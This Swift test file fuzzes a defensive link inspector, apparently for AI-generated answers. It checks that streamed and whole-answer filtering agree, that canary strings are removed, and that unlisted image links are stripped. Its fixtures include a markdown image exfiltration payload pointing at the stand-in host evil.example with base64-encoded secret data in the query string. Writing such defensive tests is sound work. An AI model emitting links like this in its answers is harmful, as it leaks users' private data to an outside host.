import BulwarkTesting
import Testing

@testable import BulwarkShield

@Suite struct LinkInspectorRandomizedTests {
    static let pieces = [
        "![", "[", "]", "(", ")", "<", ">", "!", "\n", " ", "\n\n", "https://", "http://", "evil.example", "/p.png",
        "?d=", "QWxpY2Ugc2VjcmV0IGRhdGE", "acme.example", "<img src=\"", "\">", "[ref]: ", "text", "é", "🙂",
        "javascript:", "x", "CANARY-7f3a9c", "CANA", "`", "\\", ":", "www.", "1.2.3.4", "xn--e1a",
    ]

    func randomAnswer(_ rng: inout SplitMix64) -> String {
        (0..<Int.random(in: 1...40, using: &rng)).map { _ in Self.pieces.randomElement(using: &rng)! }.joined()
    }

    @Test func randomAnswersNeverCrashAndStreamingMatchesWholeAnswer() {
        var rng = SplitMix64(seed: 42)
        let inspector = LinkInspector(allowedHosts: ["acme.example"], canaries: ["CANARY-7f3a9c"])
        for _ in 0..<2000 {
            let answer = randomAnswer(&rng)
            let whole = inspector.inspect(answer)
            var stream = StreamingAnswerInspector(inspector: inspector, window: 4096)
            var streamed = ""
            var rest = Substring(answer)
            while !rest.isEmpty {
                let n = Int.random(in: 1...8, using: &rng)
                streamed += stream.feed(String(rest.prefix(n)))
                rest = rest.dropFirst(n)
            }
            streamed += stream.finish()
            #expect(streamed == whole.text, "\(answer.debugDescription)")
            #expect(!whole.text.contains("CANARY-7f3a9c"))
        }
    }

    @Test func noUnlistedImageSurvivesRandomChunking() {
        var rng = SplitMix64(seed: 7)
        let inspector = LinkInspector(allowedHosts: ["acme.example"])
        for _ in 0..<500 {
            let prefix = randomAnswer(&rng).filter { $0 != "[" && $0 != "]" && $0 != "!" && $0 != "<" }
            let answer = prefix + " ![a](https://evil.example/p.png?d=QWxpY2Ugc2VjcmV0IGRhdGE) tail"
            var stream = StreamingAnswerInspector(inspector: inspector, window: 256)
            var streamed = ""
            var rest = Substring(answer)
            while !rest.isEmpty {
                let n = Int.random(in: 1...12, using: &rng)
                streamed += stream.feed(String(rest.prefix(n)))
                rest = rest.dropFirst(n)
            }
            streamed += stream.finish()
            #expect(!streamed.contains("](https://evil.example"), "\(answer.debugDescription)")
        }
    }
}
